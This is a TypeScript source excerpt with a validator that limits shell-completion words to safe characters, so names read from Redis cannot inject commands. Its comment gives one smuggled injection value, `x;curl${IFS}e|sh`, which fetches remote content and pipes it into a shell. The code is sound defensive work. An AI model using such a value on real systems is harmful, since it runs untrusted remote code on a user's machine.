/**
 * Whether a word may be offered by shell completion. Bash puts what completion
 * offers on the command line as it is, unquoted, so a job name read from Redis
 * such as `x;curl${IFS}e|sh` would run on Enter. Only words made of letters,
 * digits and `_.,:@%+=/-`, not starting with `-`, are offered: none of them
 * means anything to bash or zsh. Anything else (spaces, quotes, `;|&$` and
 * the like) is left out rather than quoted, since bash and zsh quote
 * differently and yargs' scripts hand the words on as they are; the user
 * types such a name, quoted, by hand.
 */
export function isSafeToComplete(word: string): boolean {
  return /^[A-Za-z0-9_.,:@%+=/][A-Za-z0-9_.,:@%+=/-]*$/.test(word);
}
